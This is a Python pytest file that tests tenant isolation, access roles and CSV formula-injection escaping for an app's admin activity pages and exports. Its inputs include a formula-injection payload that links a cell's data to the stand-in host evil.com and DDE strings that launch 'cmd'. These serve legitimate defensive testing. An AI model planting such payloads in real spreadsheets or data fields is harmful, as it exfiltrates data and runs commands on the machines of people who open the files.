"""What one tenant's activity must not show to anybody else, and must not do to who opens it in a spreadsheet."""

import csv
import io
import re
from collections.abc import Iterator
from dataclasses import replace

import pytest
from werkzeug.test import TestResponse

from app.domain.accounts.account import Role
from app.domain.audit.audit import AuditEntry
from app.domain.sessions.session import session_id
from app.web.consoles.downloads import safe_cell
from tests.builders import World, password_login, reference_in
from tests.integration.support.counter import Browser, words

PASSWORD = "what they type"
PAGES = (
    "/admin/activity",
    "/admin/activity/sessions",
    "/admin/activity/changes",
    "/admin/activity/logins.csv",
    "/admin/activity/logins.jsonl",
    "/admin/activity/changes.csv",
    "/admin/activity/changes.jsonl",
)
SUPPORTS = (
    "/support/activity",
    "/support/search?q=ada",
    *(page.replace("/admin/", "/support/tenants/acme/") for page in PAGES),
)


@pytest.fixture
def two_tenants(world: World) -> World:
    for slug, admin, agent in (("acme", "ada", "alice"), ("globex", "gina", "greg")):
        tenant = world.tenant(slug)
        world.account(tenant, admin, password=PASSWORD, roles=[Role.TENANT_ADMIN])
        world.account(tenant, agent, password=PASSWORD)
    return world


def signed_in(world: World, username: str, slug: str) -> Browser:
    client = world.client()
    assert password_login(client, username, PASSWORD, tenant=slug).status_code == 303
    return Browser(client)


@pytest.fixture
def ada(two_tenants: World) -> Browser:
    return signed_in(two_tenants, "ada", "acme")


def failed_at_globex(world: World) -> str:
    return reference_in(password_login(world.client(), "greg", "not his", tenant="globex"))


def test_another_tenants_reference_is_as_unknown_as_one_that_never_was(two_tenants: World, ada: Browser) -> None:
    reference = failed_at_globex(two_tenants)
    theirs, none = (ada.get(f"/admin/activity/{one}") for one in (reference, "0000-0000-00"))
    assert (theirs.status_code, none.status_code) == (404, 404)
    assert without_references(theirs) == without_references(none)
    gina = signed_in(two_tenants, "gina", "globex")
    assert gina.get(f"/admin/activity/{reference}").status_code == 200


def without_references(answer: TestResponse) -> str:
    return re.sub(r"[0-9A-Z]{4}-[0-9A-Z]{4}-[0-9A-Z]{2}", "", words(answer, status=404))


@pytest.mark.parametrize("reference", ["%00", "..%2f..", "x" * 5000, "<b>"])
def test_a_reference_that_is_none_is_unknown_too(ada: Browser, reference: str) -> None:
    assert ada.get(f"/admin/activity/{reference}").status_code == 404


def test_another_tenants_session_is_not_shown_and_not_ended(two_tenants: World, ada: Browser) -> None:
    greg = signed_in(two_tenants, "greg", "globex")
    found = greg.client.get_cookie("sso_session")
    assert found
    theirs = session_id(found.value)
    assert "greg" not in ada.read("/admin/activity/sessions")
    path = f"/admin/activity/sessions/{theirs}/end"
    assert ada.get(path).status_code == 404
    assert ada.fill(path, {"reason": "x"}, page="/admin/activity/sessions/end-all").status_code == 404
    assert two_tenants.session(greg.client) is not None


@pytest.mark.parametrize("export", ["logins.csv", "logins.jsonl", "changes.csv", "changes.jsonl"])
def test_an_export_holds_no_other_tenants_lines(two_tenants: World, ada: Browser, export: str) -> None:
    reference = failed_at_globex(two_tenants)
    with two_tenants.bridge.database.write() as work:
        globex = work.tenants.by_slug("globex")
        assert globex
        two_tenants.bridge.audit.record(
            work, AuditEntry(globex.id, 1.0, "globex/gina", "::1", "tenant.changed", "globex-only")
        )
    for query in ("", "?person=greg", "?actor=globex/gina", "?connection=main"):
        text = ada.get(f"/admin/activity/{export}{query}").get_data(as_text=True)
        assert reference not in text
        assert "globex" not in text


@pytest.mark.parametrize("path", PAGES)
def test_an_agent_is_let_in_nowhere(two_tenants: World, path: str) -> None:
    assert signed_in(two_tenants, "alice", "acme").get(path).status_code == 403
    assert two_tenants.client().get(path).status_code == 303


@pytest.mark.parametrize("path", SUPPORTS)
@pytest.mark.parametrize("username", ["ada", "alice"])
def test_support_pages_are_for_staff_whatever_role_one_has_elsewhere(
    two_tenants: World, username: str, path: str
) -> None:
    assert signed_in(two_tenants, username, "acme").get(path).status_code == 403


@pytest.mark.parametrize(
    "value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1", "\uff0b1", "\uff0d1", "\uff201"]
)
def test_a_formula_is_text_in_a_spreadsheet(value: str) -> None:
    assert safe_cell(value) == f"'{value}"


@pytest.mark.parametrize("value", ["", "alice", "a=1", "1-2", "'=1", None, 7])
def test_other_text_stays_as_it_is(value: object) -> None:
    assert safe_cell(value) == ("" if value is None else str(value))


def test_a_name_that_is_a_formula_does_not_run_where_the_export_is_opened(two_tenants: World, ada: Browser) -> None:
    with two_tenants.bridge.database.read() as work:
        acme = work.tenants.by_slug("acme")
    assert acme
    bad = '=HYPERLINK("https://evil.example?"&A1,"click"),"x\r\n'
    account = two_tenants.account(acme, "-2+3+cmd|' /C calc'!A0", password=PASSWORD)
    two_tenants.save(replace(account, name=bad))
    reference_in(password_login(two_tenants.client(), account.username, "wrong"))
    with two_tenants.bridge.database.write() as work:
        two_tenants.bridge.audit.record(
            work, AuditEntry(acme.id, 1.0, "acme/ada", "::1", "x", "y", reason="@SUM(1+1)*cmd|' /C calc'!A0")
        )
    rows = [row for export in ("logins", "changes") for row in cells(ada, f"/admin/activity/{export}.csv")]
    assert f"'{bad}" in (value for row in rows for value in row)
    assert not [value for row in rows for value in row if value.startswith(("=", "+", "-", "@", "\t", "\r"))]


def cells(browser: Browser, path: str) -> Iterator[list[str]]:
    text = browser.get(path).get_data().decode("utf-8-sig")
    return csv.reader(io.StringIO(text, newline=""))


def test_an_export_of_a_crowd_is_bounded_and_ends_although_logins_go_on(
    two_tenants: World, ada: Browser, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A page at a time, in short reads of their own; what comes while it is read is not in it."""
    monkeypatch.setattr("app.services.traces.login_activity.EXPORT_PAGE", 5)
    for _ in range(12):
        password_login(two_tenants.client(), "alice", PASSWORD)
    before = 12 + 1  # and ada's own
    answer = ada.client.get("/admin/activity/logins.csv", buffered=False)
    lines, references = answer.iter_encoded(), []
    next(iter(lines))
    for line in lines:
        references.append(line)
        password_login(two_tenants.client(), "alice", PASSWORD)
    assert len(references) == before
    assert len(set(references)) == before
